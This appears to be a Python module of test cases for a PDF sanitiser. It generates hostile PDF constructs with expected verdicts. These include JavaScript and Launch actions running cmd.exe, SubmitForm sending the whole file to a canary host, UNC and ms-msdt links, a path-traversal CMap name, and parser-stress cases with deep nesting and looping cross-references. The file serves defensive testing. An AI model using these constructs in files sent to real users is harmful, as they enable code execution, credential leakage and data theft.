# SPDX-License-Identifier: Apache-2.0
"""pdfcases.py: the cases of attack-pdf: (what, want, arguments of pdfbuild.build)."""
import zlib

from hostile import CANARY as X
from pdfbuild import WORDS, base, body, build, stream, table

HTTP = f"http://{X}.example/"
# What any action can be: what it is, its dictionary, what is told where nobody would have clicked.
ACTIONS = [
    ("JavaScript", f"<< /S /JavaScript /JS (app.alert\\('{X}'\\)) >>", "pdf-javascript"),
    ("JavaScript in a stream", "<< /S /JavaScript /JS 90 0 R >>", "pdf-javascript"),
    ("JavaScript, its name escaped", f"<< /S /J#61v#61Scr#69pt /J#53 ({X}) >>", "pdf-javascript"),
    ("JavaScript in octal and hex", "<< /S /JavaScript /JS <" + f"app.launchURL('{HTTP}')".encode().hex() + "> >>", "pdf-javascript"),
    ("JavaScript in UTF-16", "<< /S /JavaScript /JS <" + (b"\xfe\xff" + X.encode("utf-16-be")).hex() + "> >>", "pdf-javascript"),
    ("JS without a type", f"<< /JS ({X}) >>", "pdf-javascript"),
    ("URI", f"<< /S /URI /URI (file:///{X}) >>", None),
    ("URI with a map", f"<< /S /URI /URI (x-{X}:y) /IsMap true >>", None),
    ("Launch", f"<< /S /Launch /F ({X}.exe) >>", "pdf-launch"),
    ("Launch of Windows", f"<< /S /Launch /Win << /F (cmd.exe) /P (/c {X}) /O (open) /D (C:\\\\) >> >>", "pdf-launch"),
    ("Launch of Unix", f"<< /S /Launch /Unix ({X}) /Mac ({X}) /NewWindow true >>", "pdf-launch"),
    ("Launch of an address", f"<< /S /Launch /F << /Type /Filespec /FS /URL /F ({HTTP}) >> >>", "pdf-launch"),
    ("GoToR of an address", f"<< /S /GoToR /F << /FS /URL /F ({HTTP}) >> /D [0 /Fit] >>", "pdf-action"),
    ("GoToR of a share", f"<< /S /GoToR /F (\\\\\\\\{X}\\\\share\\\\x.pdf) /D [0 /Fit] >>", "pdf-action"),
    ("GoToE", f"<< /S /GoToE /F << /FS /URL /F ({HTTP}) >> /D [0 /Fit] /T << /R /C /N ({X}) /T << /R /P >> >> >>", "pdf-action"),
    ("GoToDp", f"<< /S /GoToDp /Dp << /K ({X}) >> >>", "pdf-action"),
    ("Thread", f"<< /S /Thread /F << /FS /URL /F ({HTTP}) >> /D (x) >>", "pdf-action"),
    ("SubmitForm", f"<< /S /SubmitForm /F << /FS /URL /F ({HTTP}) >> /Fields [] /Flags 4 >>", "pdf-action"),
    ("SubmitForm of the whole file", f"<< /S /SubmitForm /F ({HTTP}) /Flags 256 >>", "pdf-action"),
    ("ResetForm", f"<< /S /ResetForm /Fields [({X})] >>", "pdf-action"),
    ("ImportData", f"<< /S /ImportData /F << /FS /URL /F ({HTTP}) >> >>", "pdf-action"),
    ("Named", f"<< /S /Named /N /{X} >>", "pdf-action"),
    ("Hide", f"<< /S /Hide /T ({X}) /H false >>", "pdf-action"),
    ("SetOCGState", f"<< /S /SetOCGState /State [/ON 80 0 R] /X ({X}) >>", "pdf-action"),
    ("Rendition with JS", f"<< /S /Rendition /OP 0 /JS ({X}) /R << /S /MR /C << /S /MCD /D << /FS /URL /F ({HTTP}) >> >> >> >>", "pdf-javascript"),
    ("Movie", f"<< /S /Movie /T ({X}) /Operation /Play >>", "pdf-rich-media"),
    ("Sound", "<< /S /Sound /Sound 91 0 R >>", "pdf-rich-media"),
    ("GoTo3DView", f"<< /S /GoTo3DView /V ({X}) >>", "pdf-rich-media"),
    ("RichMediaExecute", f"<< /S /RichMediaExecute /CMD << /C ({X}) >> >>", "pdf-rich-media"),
    ("Trans", f"<< /S /Trans /Trans << /S /{X} >> >>", "pdf-action"),
    ("an unknown action", f"<< /S /{X} /F ({HTTP}) >>", "pdf-action"),
    ("an action without a type", f"<< /F ({HTTP}) /URI ({HTTP}) >>", "pdf-action"),
    ("an action that is a stream", "92 0 R", None),
]
MORE = {80: f"<< /Type /OCG /Name ({X}) >>", 90: stream(f"app.alert('{X}')", deflate=True),
        91: stream("x" * 40, f"/Type /Sound /R 8000 /F << /FS /URL /F ({HTTP}) >>"),
        92: stream(X, f"/S /JavaScript /JS ({X})")}
RECT = "/Rect [10 10 100 40]"


def annot(keys, rect=RECT):
    return f"<< /Type /Annot {rect} {keys} >>"


def code(found, sign="+"):
    return sign + found if found else "clean"


def roads():
    """Everywhere that an action can stand."""
    for what, action, found in ACTIONS:
        at = dict(MORE)
        at[95] = action if action != "92 0 R" else MORE[92]
        yield f"{what}: when it is opened", "clean" if what == "an action that is a stream" else code(found or "pdf-action"), {"catalog": "/OpenAction 95 0 R", "objects": at}
        yield f"{what}: written out in the catalog", "clean", {"catalog": f"/OpenAction {action}", "objects": at}
        yield f"{what}: behind a Next", "clean", {"catalog": "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] /Next 95 0 R >>] >>", "objects": at}
        yield f"{what}: on a link", "clean", {"annots": annot("/Subtype /Link /A 95 0 R /PA 95 0 R /AA << /E 95 0 R >>"), "objects": at}
        yield f"{what}: before what a link does", "clean", {"annots": annot("/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next 95 0 R >>"), "objects": at}
        yield f"{what}: on a bookmark", "clean", {"catalog": "/Outlines 96 0 R", "objects": {**at, 96: "<< /Type /Outlines /First 97 0 R /Last 97 0 R /Count 1 >>",
                                                  97: "<< /Title (mark) /Parent 96 0 R /A 95 0 R /Dest [3 0 R /Fit] /SE 97 0 R >>"}}
        events = " ".join(f"/{e} 95 0 R" for e in ("E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI", "O", "C", "K", "F", "V", "WC", "WS", "DS", "WP", "DP"))
        yield f"{what}: by every event", "clean", {"catalog": f"/AA << {events} >>", "page": f"/AA << {events} >>", "objects": {**at, 98:
                annot(f"/Subtype /Widget /FT /Tx /T (f) /V (v) /AA << {events} >> /A 95 0 R /MK << /CA ({X}) >> /AP << /N 99 0 R >>"),
                99: stream("BT ET", "/Type /XObject /Subtype /Form /BBox [0 0 90 30]")}, "annots": "98 0 R"}
        yield f"{what}: in the names", "clean", {"catalog": "/Names << /JavaScript << /Kids [<< /Names [(x) 95 0 R] /Limits [(x) (x)] >>] >> /Pages << /Names [(p) 95 0 R] >> "
                                                           f"/Templates << /Names [(t) 95 0 R] >> /IDS << >> /URLS << /Names [({HTTP}) 95 0 R] >> /Renditions << /Names [(r) 95 0 R] >> >>", "objects": at}


def annotations():
    media = f"<< /FS /URL /F ({HTTP}) /UF ({HTTP}) /EF << /F 90 0 R >> >>"
    look = "/AP << /N 99 0 R /R 99 0 R /D 99 0 R >>"
    at = {**MORE, 99: stream("0 0 90 30 re f", "/Type /XObject /Subtype /Form /BBox [0 0 90 30]")}
    for what, keys, want in [
            ("a file", f"/Subtype /FileAttachment /FS {media} /Name /PushPin {look}", "+pdf-attachment"),
            ("a screen", f"/Subtype /Screen /A << /S /Rendition /OP 0 /AN 3 0 R /R << /S /MR /N ({X}) /C << /S /MCD /CT (video/mp4) /D {media} /P << /TF (TEMPALWAYS) >> >> >> >> {look}", "+pdf-rich-media"),
            ("a film", f"/Subtype /Movie /Movie << /F {media} /Poster true >> /A true {look}", "+pdf-rich-media"),
            ("a sound", f"/Subtype /Sound /Sound 91 0 R {look}", "+pdf-rich-media"),
            ("rich media", f"/Subtype /RichMedia /RichMediaContent << /Assets << /Names [({X}) {media}] >> /Configurations [<< /Subtype /Flash /Instances [<< /Asset {media} >>] >>] >> "
             f"/RichMediaSettings << /Activation << /Condition /PO /Scripts [{media}] >> >> {look}", "+pdf-rich-media"),
            ("3D", f"/Subtype /3D /3DD << /Type /3D /Subtype /U3D /OnInstantiate 90 0 R >> /3DA << /A /PO >> {look}", "+pdf-rich-media"),
            ("a projection", f"/Subtype /Projection /ExData << /Subtype /Markup3D /MD5 ({X}) >> {look}", "+pdf-annotation"),
            ("a stamp", f"/Subtype /Stamp /Name /{X} /Contents ({X}) /RC (<body onload='{X}'/>) /T ({X}) {look}", "+pdf-annotation"),
            ("a note", f"/Subtype /Text /Contents ({X}) /Open true /Popup << /Subtype /Popup /Contents ({X}) >>", "clean"),
            ("a watermark", f"/Subtype /Watermark /FixedPrint << /Type /FixedPrint /X ({X}) >> {look}", "clean"),
            ("a free text without a look", f"/Subtype /FreeText /Contents ({X}) /DA (/{X} 12 Tf) /RC ({X})", "any"),
            ("a redaction", f"/Subtype /Redact /OverlayText ({X}) /RO 99 0 R {look}", "clean"),
            ("an unknown kind", f"/Subtype /{X} /Contents ({X}) {look}", "clean"),
            ("no kind", f"/Contents ({X}) {look} /A << /S /Launch /F ({X}) >>", "clean"),
            ("a look that is hidden", f"/Subtype /Stamp /F 2 /AP << /N 98 0 R >>", "clean"),
            ("a trap net", f"/Subtype /TrapNet {look} /AS /{X}", "clean")]:
        more = {**at, 98: stream(f"BT /F1 9 Tf ({X}) Tj ET", "/Type /XObject /Subtype /Form /BBox [0 0 90 30] /Resources << /Font << /F1 5 0 R >> >>")}
        yield f"annotation: {what}", want, {"annots": annot(keys), "objects": more}
    yield "annotation: a look with a stream from elsewhere", "any", {"annots": annot("/Subtype /Stamp /AP << /N 98 0 R >>"), "objects": {
        98: stream("q Q", f"/Type /XObject /Subtype /Form /BBox [0 0 90 30] /F << /FS /URL /F ({HTTP}) >> /FFilter /FlateDecode")}}
    yield "annotation: Annots that name themselves", "any", {"page": "/Annots 95 0 R", "objects": {95: "[95 0 R 95 0 R]"}}
    yield "annotation: one in two places", "clean", {"annots": "95 0 R 95 0 R", "objects": {95: annot("/Subtype /Link /Dest [3 0 R /Fit]")}}
    yield "annotation: a parent that is its own", "any", {"annots": "95 0 R", "objects": {95: annot(f"/Subtype /Widget /Parent 95 0 R /TU ({X})")}}
    yield "annotation: rectangles without sense", "any", {"annots": annot("/Subtype /Link /Dest [3 0 R /Fit]", "/Rect [9e9 nan 1 -2147483648]")}
    yield "annotation: in an appearance that draws itself", "any", {"annots": annot("/Subtype /Stamp /AP << /N 98 0 R >>"), "objects": {
        98: stream("/A Do", "/Type /XObject /Subtype /Form /BBox [0 0 90 30] /Resources << /XObject << /A 98 0 R >> >>")}}


def addresses():
    """Where a link leads: only what is surely an address of the web or of mail may stay, and only as it is."""
    good = f"(http://{X}.example/)"
    for what, text in [
            ("javascript", f"(javascript:alert\\('{X}'\\))"), ("javascript, capitals", f"(JaVaScRiPt:{X})"), ("javascript with a tab", f"(java\\tscript:{X})"),
            ("javascript behind a blank", f"( \\001javascript:{X})"), ("javascript in UTF-16", "<" + (b"\xfe\xff" + f"javascript:{X}".encode("utf-16-be")).hex() + ">"),
            ("javascript in UTF-8 with a mark", f"<EFBBBF{f'javascript:{X}'.encode().hex()}>"), ("file", f"(file:///etc/{X})"), ("file of a host", f"(file://{X}/share)"),
            ("UNC", f"(\\\\\\\\{X}\\\\share)"), ("UNC, other slashes", f"(//{X}/share)"), ("data", f"(data:text/html,<script>{X}</script>)"), ("vbscript", f"(vbscript:{X})"),
            ("a handler of Windows", f"(ms-msdt:/id {X})"), ("search", f"(search-ms:query={X})"), ("without a scheme", f"({X}/x)"), ("with a percent sign before", f"(%6aavascript:{X})"),
            ("with a line end", f"(http://a.example/\\r\\n{X})"), ("with NUL", f"(http://a.example/\\000{X})"), 
            ("with a user", f"(http://a.example@{X}/)"), ("with a backslash", f"(http:\\\\\\\\{X}\\\\)"), ("turned around", "<" + (b"\xfe\xff" + f"http://a\u202e{X}".encode("utf-16-be")).hex() + ">"),
            ("too long", f"(http://a.example/{X}{'a' * 70000})"), ("jar", f"(jar:http://{X}/!/)"), ("mailto with an attachment", f"(mailto:a@b.example?attach=C:\\\\{X})"),
            ("a name", f"/{X}"), ("a stream", "90 0 R"), ("an array", f"[{good}]"), ("empty", "()"), ("view-source", f"(view-source:http://{X})"), ("feed", f"(feed:javascript:{X})")]:
        yield f"address: {what}", "clean", {"annots": annot(f"/Subtype /Link /A << /S /URI /URI {text} >>"), "objects": MORE}
    yield "address: with a base elsewhere", "clean", {"catalog": f"/URI << /Base ({HTTP}) >>", "annots": annot("/Subtype /Link /A << /S /URI /URI (x.html) >>")}


def catalog():
    for what, keys, want in [
            ("attachments", f"/Names << /EmbeddedFiles << /Names [({X}) << /Type /Filespec /F ({X}.exe) /EF << /F 90 0 R >> >>] >> >>", "+pdf-attachment"),
            ("attachments below themselves", "/Names << /EmbeddedFiles 95 0 R >>", "any"),
            ("a portfolio", f"/Collection << /View /T /D ({X}) /Navigator << /SWF ({X}) >> >> /Names << /EmbeddedFiles << /Names [({X}) << /EF << /F 90 0 R >> >>] >> >>", "+pdf-attachment"),
            ("associated files", f"/AF [<< /Type /Filespec /AFRelationship /Data /F ({X}) /EF << /F 90 0 R >> >>]", "+pdf-attachment"),
            ("metadata", "/Metadata 94 0 R", "+pdf-metadata"), ("pieces", f"/PieceInfo << /{X} << /Private ({X}) >> >>", "+pdf-metadata"),
            ("output intents", f"/OutputIntents [<< /S /GTS_PDFX /OutputConditionIdentifier ({X}) /RegistryName ({HTTP}) /DestOutputProfile 90 0 R /DestOutputProfileRef << /URLs [<< /FS /URL /F ({HTTP}) >>] >> >>]", "+pdf-metadata"),
            ("spiders", f"/SpiderInfo << /V 1 /C [<< /URL ({HTTP}) >>] >>", "clean"), ("threads", f"/Threads [<< /F << /N 3 0 R >> /I << /Title ({X}) >> >>]", "clean"),
            ("permissions", f"/Perms << /DocMDP << /Type /Sig /Name ({X}) /Reference [] >> >> /Legal << /JavaScriptActions 1 /Attestation ({X}) >>", "clean"),
            ("requirements", f"/Requirements [<< /S /EnableJavaScripts /RH << /S /JS /Script ({X}) >> >>]", "clean"), ("extensions", f"/Extensions << /{X} << /BaseVersion /1.7 >> >>", "clean"),
            ("a viewer that prints", f"/ViewerPreferences << /Direction /R2L /PrintScaling /None /NumCopies 5 /{X} ({X}) /Enforce [/PrintScaling] /HideToolbar true /HideWindowUI true >>", "clean"),
            ("a language", f"/Lang (en\\)/{X} \\()", "clean"), ("a version", f"/Version /9.{X}", "any"), ("a base", f"/URI << /Base ({HTTP}) >>", "clean"),
            ("page modes", f"/PageMode /{X} /PageLayout /{X}", "clean"), ("labels", f"/PageLabels << /Nums [0 << /S /{X} /P (a) >> -1 << >> 99999999 << /St 0 >>] >>", "clean"),
            ("labels that loop", "/PageLabels 95 0 R", "any"), ("destinations that loop", "/Dests << /a (a) /b /a >> /Names << /Dests 95 0 R >> /OpenAction (a)", "any"),
            ("document parts", f"/DPartRoot << /Type /DPartRoot /DPartRootNode << /DPM << /{X} ({X}) >> >> >>", "clean"), ("a secured document", f"/DSS << /Certs [90 0 R] /VRI << /{X} << >> >> >>", "clean"),
            ("a structure with attributes", f"/MarkInfo << /Marked true >> /StructTreeRoot << /Type /StructTreeRoot /ClassMap << /{X} << /O /{X} >> >> /RoleMap << /{X} /P >> /IDTree << /Names [({X}) 96 0 R] >> /K 96 0 R /ParentTree << /Nums [] >> >>", "any"),
            ("a structure that loops", "/MarkInfo << /Marked true >> /StructTreeRoot 97 0 R", "any"),
            ("roles that loop", "/MarkInfo << /Marked true >> /StructTreeRoot << /Type /StructTreeRoot /RoleMap << /A /B /B /A >> /K << /S /A /K [<< /S /B >> 3 0 R] >> >>", "any"),
            ("names without end", "/Names << /JavaScript 95 0 R >>", "any")]:
        at = {**MORE, 94: stream(f"<x:xmpmeta>{X}<script>{X}</script></x:xmpmeta>", "/Type /Metadata /Subtype /XML"), 95: "<< /Kids [95 0 R 95 0 R 95 0 R] /Nums [0 << /S /D >>] /Names [(a) 95 0 R] >>",
              96: f"<< /Type /StructElem /S /{X} /P 97 0 R /C /{X} /ID ({X}) /A << /O /UserProperties /P [<< /N ({X}) /V ({X}) >>] >> /AF [90 0 R] /R 1 /NS << /NS ({HTTP}) >> /K 0 /Pg 3 0 R >>",
              97: "<< /Type /StructTreeRoot /K 98 0 R >>", 98: "<< /Type /StructElem /S /P /P 97 0 R /K [98 0 R 98 0 R << /Type /MCR /Pg 98 0 R /MCID 99999999 >> << /Type /OBJR /Obj 98 0 R >>] >>"}
        yield f"catalog: {what}", want, {"catalog": keys, "objects": at}
    mark = "<< /Type /Outlines /First 97 0 R /Last 97 0 R >>"
    for what, item in [("its own next", "/Next 97 0 R"), ("its own child", "/First 97 0 R /Last 97 0 R /Count 3"), ("a child that is the root", "/First 96 0 R /Last 96 0 R"),
                       ("a count that lies", "/Count -2147483648"), ("two nexts that meet", "/Next 98 0 R /First 98 0 R /Last 98 0 R"), ("a destination elsewhere", f"/Dest [7 /XYZ 9e99 ({X}) null]"),
                       ("a destination by structure", f"/SE 3 0 R /A << /S /GoTo /SD [3 0 R /Fit] /D ({X}) >>"), ("numbers out of range", "/C [nan 9 -3] /F 99999999999")]:
        yield f"bookmarks: {what}", "any", {"catalog": "/Outlines 96 0 R", "objects": {96: mark, 97: f"<< /Title (a) /Parent 96 0 R {item} >>", 98: "<< /Title (b) /Parent 97 0 R /Next 97 0 R >>"}}
    title = (b"\xfe\xff" + "a\u202ea\u0001\n\ud800b\u200b".encode("utf-16-be", "surrogatepass")).hex()
    yield "bookmarks: a title of control characters", "clean", {"catalog": "/Outlines 96 0 R", "objects": {96: mark, 97: f"<< /Title <{title}> /Parent 96 0 R /Dest [3 0 R /Fit] >>"}}
    deep = {96: mark, **{97 + i: f"<< /Title (t{i}) /Parent {96 + i} 0 R /First {98 + i} 0 R /Last {98 + i} 0 R /Count 1 >>" for i in range(400)}, 497: "<< /Title (end) /Parent 496 0 R >>"}
    yield "bookmarks: 400 deep", "any", {"catalog": "/Outlines 96 0 R", "objects": deep}


def forms():
    field = annot(f"/Subtype /Widget /FT /Tx /T (f) /V (v) /DV ({X}) /DA (/{X} 0 Tf 0 g) /MK << /CA ({X}) /R 90 >> /AP << /N 99 0 R >>")
    at = {**MORE, 98: field, 99: stream("BT ET", "/Type /XObject /Subtype /Form /BBox [0 0 90 30]")}
    for what, keys, want in [
            ("XFA over fields", "/XFA 90 0 R /Fields [98 0 R]", "+pdf-xfa"), ("XFA in pieces", f"/XFA [(preamble) 90 0 R ({X}) 90 0 R] /Fields [98 0 R]", "+pdf-xfa"),
            ("XFA alone", "/XFA 90 0 R /Fields []", "refused"), ("an order of calculation", f"/Fields [98 0 R] /CO [98 0 R] /NeedAppearances true /SigFlags 3 /DR << /Font << /{X} 5 0 R >> /Encoding << >> >> /DA ({X})", "+pdf-form"),
            ("fields that loop", "/Fields [97 0 R]", "any")]:
        yield f"form: {what}", want, {"catalog": f"/AcroForm << {keys} >>", "annots": "98 0 R", "objects": {**at, 97: "<< /Kids [97 0 R 98 0 R] /T (a) /FT /Btn /Parent 97 0 R >>"}}
    yield "form: a signature", "+pdf-signature", {"catalog": "/AcroForm << /Fields [98 0 R] /SigFlags 3 >>", "annots": "98 0 R", "objects": {**at, 98: annot(
        f"/Subtype /Widget /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /{X} /Contents <{'00' * 50}> /ByteRange [0 1 2 3] /Name (Made Up) /Location ({X}) /Prop_Build << /App << /Name /{X} >> >> >> "
        f"/Lock << /Action /All /X ({X}) >> /SV << /URL ({HTTP}) >>")}}


def externals():
    """Streams whose bytes stand elsewhere, in every kind of stream."""
    out = f"/F << /Type /Filespec /FS /URL /F ({HTTP}) >> /FFilter /FlateDecode /FDecodeParms << /{X} 1 >>"
    yield "elsewhere: the page's content", "~pdf-external-stream", {"says": "", "objects": {4: stream("", out)}}
    yield "elsewhere: one of its contents", "~pdf-external-stream", {"objects": {3: base()[3].replace("/Contents 4 0 R", "/Contents [4 0 R 95 0 R]"), 95: stream("q Q", out)}}
    form = "/Type /XObject /Subtype /Form /BBox [0 0 10 10]"
    for what, keys in [("a form", f"{form} {out}"), ("a form of a name", f"{form} /F ({X})"), ("a form with a reference", f"{form} /Ref << /F << /FS /URL /F ({HTTP}) >> /Page 0 /ID [({X}) ({X})] >>"),
                       ("a form of PostScript", f"{form} /Subtype2 /PS /PS 90 0 R"), ("PostScript", "/Type /XObject /Subtype /PS /Level1 90 0 R"),
                       ("OPI", f"{form} /OPI << /2.0 << /Type /OPI /F << /FS /URL /F ({HTTP}) >> >> >>"), ("a form with pieces", f"{form} /PieceInfo << /{X} << >> >> /LastModified ({X}) /Metadata 90 0 R /StructParents 3"),
                       ("an image", f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray {out}"),
                       ("an image with others", f"/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Alternates [<< /Image 95 0 R /DefaultForPrinting true >>] /OPI << /1.3 << /F ({X}) >> >> /ID ({X}) /Name /{X}"),
                       ("a mask", "/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /SMask 97 0 R"), ("an ICC profile", "/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace [/ICCBased 98 0 R]")]:
        more = {**MORE, 96: stream("q Q ", keys), 97: stream("x", f"/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray {out}"), 98: stream("x", f"/N 1 {out}"),
                95: stream("y", f"/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray {out}")}
        yield f"elsewhere: {what}", "any", {"resources": "/XObject << /X 96 0 R >>", "content": "/X Do\n", "objects": more}
    for what, keys in [("TrueType", f"/FontFile2 94 0 R"), ("CFF", "/FontFile3 94 0 R"), ("Type 1", "/FontFile 94 0 R")]:
        yield f"elsewhere: a font program, {what}", "any", {"objects": {5: "<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+Font /FirstChar 32 /LastChar 33 /Widths [500 500] /FontDescriptor 93 0 R >>",
            93: f"<< /Type /FontDescriptor /FontName /F /Flags 32 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 {keys} >>", 94: stream("x", out)}}
    for what, keys in [("a map to Unicode", "/ToUnicode 94 0 R /Encoding /Identity-H"), ("a character map", "/Encoding 94 0 R"), ("glyph numbers", "/Encoding /Identity-H")]:
        yield f"elsewhere: {what}", "any", {"content": "BT /F9 9 Tf <0041> Tj ET\n", "font": "/F9 95 0 R", "objects": {94: stream("x", f"/Type /CMap /CMapName /{X} {out}"),
            95: f"<< /Type /Font /Subtype /Type0 /BaseFont /A {keys} /DescendantFonts [96 0 R] >>", 96: "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) "
            f"/Ordering (Japan1) /Supplement 2 >> /FontDescriptor 93 0 R /CIDToGIDMap 94 0 R >>", 93: "<< /Type /FontDescriptor /FontName /F /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /StemV 1 >>"}}
    for used in (f"/{X}", f"({HTTP})", "/..#2F..#2Fetc#2Fpasswd", "94 0 R", "97 0 R"):
        text = f"/CIDInit /ProcSet findresource begin begincmap /Identity-H usecmap ({X}) run /{X} usecmap 1 begincodespacerange <0000> <FFFF> endcodespacerange endcmap"
        yield f"elsewhere: usecmap {used}".replace(X, "x"), "any", {"content": "BT /F9 9 Tf <0041> Tj ET\n", "font": "/F9 95 0 R", "objects": {94: stream(text, f"/Type /CMap /CMapName /A /UseCMap {used} /CIDSystemInfo << /Registry ({X}) /Ordering ({X}) /Supplement 0 >>"),
            97: stream(text, "/Type /CMap /UseCMap 94 0 R"), 95: "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 94 0 R /ToUnicode 97 0 R /DescendantFonts [96 0 R] >>", 96: "<< /Type /Font /Subtype /CIDFontType0 /BaseFont /A /CIDSystemInfo "
            f"<< /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor << /Type /FontDescriptor /FontName /F /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /StemV 1 >> >>"}}


def spellings():
    """Two readings of the same bytes."""
    yield "spelling: keys twice", "any", {"catalog": f"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /OpenAction << /S /JavaScript /JS ({X}) >>"}
    yield "spelling: keys twice, the bad one first", "any", {"catalog": f"/OpenAction << /S /JavaScript /JS ({X}) >> /OpenAction << /S /GoTo /D [3 0 R /Fit] >>"}
    yield "spelling: keys escaped", "+pdf-javascript", {"catalog": f"/Open#41ction << /#53 /#4aavaScript /J#53 ({X}) >>"}
    yield "spelling: names with NUL", "any", {"catalog": f"/OpenAction << /S /JavaScript#00 /JS#00 ({X}) >> /#00 ({X})"}
    yield "spelling: names with bad escapes", "any", {"catalog": f"/Open#4Gction << /S /JavaScript /JS ({X}) >>", "resources": f"/#XX /#{X}"}
    yield "spelling: comments between", "any", {"catalog": f"/OpenAction % >>\n<< /S %{X}\r/JavaScript /JS ({X}) >>"}
    yield "spelling: a string that seems to end", "clean", {"catalog": f"/X (\\)>> endobj\n9 0 obj << /S /JavaScript /JS \\({X}\\) >> endobj) /Y (a(b)c\\\n)"}
    yield "spelling: an odd hex string", "clean", {"catalog": f"/X <4> /Y <4 2>"}
    yield "spelling: a generation", "any", {"objects": {(95, 7): f"<< /S /JavaScript /JS ({X}) >>"}, "catalog": "/OpenAction 95 0 R"}
    yield "spelling: generation 65535", "any", {"objects": {(95, 65535): f"<< /S /JavaScript /JS ({X}) >>"}, "catalog": "/OpenAction 95 65535 R"}
    yield "spelling: a negative generation", "any", {"catalog": "/OpenAction 95 -1 R", "objects": {95: f"<< /S /JavaScript /JS ({X}) >>"}}
    yield "spelling: numbers beyond", "any", {"catalog": f"/OpenAction 99999999999999999999 0 R /X 4294967297 0 R /Y 0 0 R /Z -3 0 R", "page": "/Rotate 4294967386 /UserUnit 1e400"}
    yield "spelling: a reference to a reference", "any", {"catalog": "/OpenAction 95 0 R", "objects": {95: "96 0 R", 96: "95 0 R"}}
    yield "spelling: a catalog of another kind", "any", {"mangle": lambda d: d.replace(b"/Type /Catalog", b"/Type /Sig    ")}
    yield "spelling: a page of no kind", "any", {"mangle": lambda d: d.replace(b"/Type /Page /Parent", b"/Type /Pagf /Parent")}
    yield "spelling: kids that are a dictionary", "any", {"objects": {2: "<< /Type /Pages /Kids << /A 3 0 R >> /Count 1 >>"}}
    yield "spelling: nested arrays", "any", {"catalog": "/X " + "[" * 100000 + "]" * 100000}
    yield "spelling: nested dictionaries", "any", {"catalog": "/X " + "<< /A " * 20000 + "1" + " >>" * 20000}
    yield "spelling: nested in content", "any", {"content": "[" * 100000 + "]" * 100000 + " TJ\n"}
    yield "spelling: object streams within", "any", {"whole": objstm()}
    yield "spelling: an object stream that extends itself", "any", {"whole": objstm("/Extends 6 0 R")}
    yield "spelling: an object stream with wrong numbers", "any", {"whole": objstm("/N 2000000000 /First 1999999999")}


def objstm(more=""):
    """A file of an object stream and a cross-reference stream."""
    objects = base(catalog=f"/OpenAction << /S /JavaScript /JS ({X}) >>")
    inside, index = b"", b""
    for number in (1, 2, 3, 5):
        index += f"{number} {len(inside)} ".encode()
        inside += objects[number].encode() + b" "
    out = bytearray(b"%PDF-1.7\n")
    keys = more if "/N " in more else f"/N 4 /First {len(index)} {more}"
    places = body(out, {4: objects[4], 6: stream(index + inside, f"/Type /ObjStm {keys}", deflate=True)})
    start = len(out)
    rows = {0: (0, 0, 65535), 1: (2, 6, 0), 2: (2, 6, 1), 3: (2, 6, 2), 4: (1, places[4][0], 0), 5: (2, 6, 3), 6: (1, places[6][0], 0), 7: (1, start, 0)}
    data = b"".join(bytes([t]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for t, a, b in rows.values())
    out += b"7 0 obj\n" + stream(data, "/Type /XRef /W [1 4 2] /Size 8 /Root 1 0 R", deflate=True) + f"\nendobj\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def revisions():
    """Shadows: what was there, is there, and comes back."""
    words4 = base()[4]
    hidden = stream(f"BT /F1 24 Tf 72 700 Td ({X}) Tj ET")
    yield "shadow: hide", "+pdf-revisions", {"objects": {4: hidden}, "updates": [{4: words4}]}
    yield "shadow: replace by the page", "+pdf-revisions", {"objects": {6: hidden, 4: words4}, "updates": [{3: base()[3]}]}
    yield "shadow: hide and replace", "+pdf-revisions", {"objects": {4: hidden}, "updates": [{6: hidden}, {4: words4}]}
    yield "shadow: a catalog in a later revision", "any", {"updates": [{1: f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ({X}) >> >>"}]}
    yield "shadow: two definitions in one revision", "any", {"mangle": lambda d: d.replace(b"xref\n0 1", f"4 0 obj\n<< /Length 9 >>\nstream\n({X}) Tj\nendstream\nendobj\nxref\n0 1".encode(), 1)}
    yield "xref: Prev to itself", "any", {"mangle": lambda d: d.replace(b"/Root 1 0 R ", f"/Root 1 0 R /Prev {d.rindex(b'xref' + bytes([10]) + b'0 1')} ".encode(), 1)}
    yield "xref: Prev beyond", "any", {"trailer": "/Prev 99999999999"}
    yield "xref: Prev negative", "any", {"trailer": "/Prev -5"}
    yield "xref: hybrid", "any", {"trailer": "/XRefStm 15"}
    yield "xref: hybrid into itself", "any", {"trailer": "/XRefStm 0"}
    yield "xref: a size that lies", "any", {"mangle": lambda d: d.replace(b"/Size 6", b"/Size 2147483647")}
    yield "xref: a subsection that lies", "any", {"mangle": lambda d: d.replace(b"0 1\n0000000000", b"0 4000000000\n0000000000")}
    yield "xref: an offset into a string", "any", {"catalog": "/X (\n5 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Courier >> endobj)", "mangle": shift_font}
    yield "xref: no table", "any", {"mangle": lambda d: d[:d.rindex(b"xref\n0")] + b"startxref\n0\n%%EOF\n"}
    yield "xref: startxref twice", "any", {"mangle": lambda d: d + b"startxref\n9\n%%EOF\n"}
